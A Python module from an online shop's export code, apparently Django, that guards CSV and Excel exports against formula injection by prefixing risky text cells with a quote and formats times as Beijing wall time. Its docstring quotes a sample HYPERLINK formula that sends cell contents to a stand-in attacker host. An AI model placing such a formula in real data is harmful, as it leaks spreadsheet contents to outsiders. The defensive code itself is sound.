"""Cells of the files the shop hands out to be opened in a spreadsheet (CSV and Excel exports).

A spreadsheet program (Excel, WPS, LibreOffice) runs a cell that starts with ``=``, ``+``, ``-`` or ``@``
as a formula, and a leading tab or carriage return lets one follow: a customer named
``=HYPERLINK("http://evil.example/?x="&A1,"点我")`` would get a live link into the finance clerk's sheet.
:func:`safe_text` is OWASP's rule for CSV injection (https://owasp.org/www-community/attacks/CSV_Injection):
a single quote in front, so the cell is read as text; every export uses it (CSV here, Excel in
:mod:`starmall.xlsx_stream`; ``defusedcsv`` serves CSV writers only). Only text is touched: amounts
written as numbers (``Decimal`` yuan, negative for a refund-heavy day) stay numbers a column sum adds.
"""

from __future__ import annotations

import datetime as dt
from zoneinfo import ZoneInfo

from django.utils import timezone

SHANGHAI = ZoneInfo("Asia/Shanghai")  # Beijing time, whatever TIME_ZONE says

#: First characters that make a spreadsheet read a cell as a formula (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_text(value):
    """``value`` for a spreadsheet cell: a ``str`` that starts with one of
    :data:`FORMULA_STARTS` gets a ``'`` in front (``"=1+1"`` -> ``"'=1+1"``); anything else
    (other text, numbers, dates, ``None``) is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(row) -> list:
    """:func:`csv_cell` applied to each cell of ``row`` (an iterable): neutralised text, empty
    for nothing, Beijing times."""
    return [csv_cell(value) for value in row]


def beijing_naive(value: dt.datetime) -> dt.datetime:
    """An aware datetime as Beijing (Asia/Shanghai) wall time without a zone, as an Excel cell
    holds it (Excel has no time zones). A naive one is returned as it is."""
    if timezone.is_aware(value):
        return timezone.localtime(value, SHANGHAI).replace(tzinfo=None)
    return value


def csv_cell(value) -> str:
    """``value`` as CSV text: ``None`` and ``""`` empty (never "-"), a datetime as Beijing
    "2026-12-01 20:00", a date as "2026-12-01", a ``Decimal`` (yuan) as "12.34", text through
    :func:`safe_text`."""
    if value is None:
        return ""
    if isinstance(value, dt.datetime):
        return beijing_naive(value).strftime("%Y-%m-%d %H:%M")
    if isinstance(value, dt.date):
        return value.isoformat()
    if isinstance(value, str):
        return safe_text(value)
    return str(value)
